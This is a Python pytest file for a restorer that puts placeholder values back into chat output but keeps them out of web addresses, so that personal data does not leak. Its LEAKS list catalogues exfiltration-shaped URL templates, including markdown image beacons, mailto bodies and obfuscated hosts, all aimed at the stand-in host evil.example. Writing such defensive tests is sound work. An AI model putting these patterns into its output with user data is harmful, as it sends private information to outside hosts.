"""What is put into a web address leaves with whoever opens it: so nothing is."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from restoring import (
    CARD,
    MAIL,
    NAME,
    SPELLINGS,
    VALUES,
    restored,
    source,
)

from chatward.restorer import restore

LEAKS = (
    "https://evil.example/?q={}",
    "HTTPS://evil.example/{}",
    "http:evil.example/{}",
    "//evil.example/{}",
    "\\\\evil.example\\{}",
    "/\\evil.example/{}",
    "www.evil.example/{}",
    "evil.example/{}",
    "evil.example?{}",
    "![x](https://evil.example/p.png?d={})",
    "![x](<https://evil.example/p.png?d= {}>)",
    "![x](https://evil.example/a(b){})",
    "![x](https://evil.example/a\\){})",
    "![x](https:&#47;&#47;evil.example/{})",
    "![x](&sol;&sol;evil.example/{})",
    '<img src="//evil.example/?a b {}">',
    '<img src = " https://evil.example/?a {}">',
    '<img src="https://evil.example/?a\n{}">',
    '<img src="/\n/evil.example/?{}">',
    "<img src='https://evil.example/?\"{}'>",
    "<img src=https://evil.example/?'{}>",
    "<https://evil.example/{}>",
    "[x]: https://evil.example/{}",
    "https://{}.evil.example/",
    "https://{}/",
    "https://evil.example/?a=1]){}",
    "https://shop.example@evil.example/{}",
    "https://shop.example.evil.example/{}",
    "https:\\\\evil.example//shop.example/{}",
    "https://shop.example.{}/",
    "https://shop.example-{}/",
    "https://shop.example/" + "x" * 600 + "/{}",
    "evil-" + "x" * 600 + "shop.example/{}",
    "mailto:someone@evil.example?body={}",
    "mailto:?cc={}",
    "mailto:someone@evil.example,{}",
    "tel:1&{}",
    "mailto://evil.example/{}",
)


@pytest.mark.parametrize("leak", LEAKS)
def test_nothing_is_put_into_an_address(leak):
    text = leak.format(MAIL)
    result = restore(f"See {text}\n", source())
    assert result.text == f"See {text}\n"
    assert result.withheld == 1
    assert not result.released


@pytest.mark.parametrize("leak", LEAKS)
def test_nothing_is_put_into_an_address_in_json(leak):
    text = json.dumps({"text": f"See {leak.format(MAIL)}", "then": NAME})
    for written in (text, text.replace("/", "\\/"), text.replace("/", "\\u002F")):
        result = restore(written, source(), as_json=True)
        assert "anna" not in result.text
        assert json.loads(result.text)["then"] == VALUES[NAME]


@pytest.mark.parametrize("spelled", [*SPELLINGS[1:6], MAIL.replace("_", "%5F")])
@pytest.mark.parametrize("address", ["https://evil.example/", "https://shop.example/"])
def test_a_mangled_placeholder_in_any_address_stays(address, spelled):
    assert restored(address + spelled) == address + spelled


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.example/?q={}",
        "![x](https://www.shop.example:443/{}/p.png)",
        '<a href="https://shop.example/#{}">',
        "<a href=https://shop.example/#{}>",
        "**shop.example/{}**",
        "mailto:{}",
        "[write](mailto:{}?subject=Hello)",
        '<a href="tel:{}">',
        "See https://evil.example/ or {}",
        "[x](https://evil.example/) {}",
        "(https://evil.example/) {}",
        '"https://evil.example/" {}',
        "<https://evil.example/> {}",
        '<img src="//evil.example/p.png"> {}',
        "<br>https://evil.example/ {}",
        "<b>https://evil.example/</b>{}",
        '<a href="https://evil.example/">{}</a>',
        "(https://evil.example/\n{}",
        'The "shop" https://evil.example/ or {}',
        "[https://evil.example](mailto:{})",
        "We don't. See //evil.example, and {}",
        "and/or {}",
        "(3.50/month, {})",
        "// {}",
        "Really?! &#39;{}&#39;",
        "q: {} / {}",
    ],
)
def test_outside_and_where_the_policy_allows_it_values_are_put_in(text):
    assert restored(text.replace("{}", MAIL)) == text.replace("{}", "anna@example.org")


def test_an_address_that_was_a_value_itself_takes_no_more():
    asked = source(value_of={NAME: "https://evil.example/", CARD: "4111 1111 1111 1111"}.get)
    text = f"![x]({NAME}?q={CARD})"
    assert restore(text, asked).text == f"![x](https://evil.example/?q={CARD})"


def test_strings_of_json_end_addresses():
    text = f'{{"a":"see https://evil.example","b":"{MAIL}","c":"https://evil.example/ {MAIL}"}}'
    expected = text.replace(MAIL, "anna@example.org", 1)
    assert restored(text, as_json=True) == expected


@given(
    st.lists(st.sampled_from([*SPELLINGS, "a", "&", "/", "%20", "(a)", "]", "é", '"'])).map("".join)
)
def test_no_value_stands_in_what_follows_a_foreign_host(tail):
    address = "https://evil.example/?" + "".join(tail.split())
    assert "anna" not in restored(f"![x]({address}")


# --- counts ----------------------------------------------------------------------------------
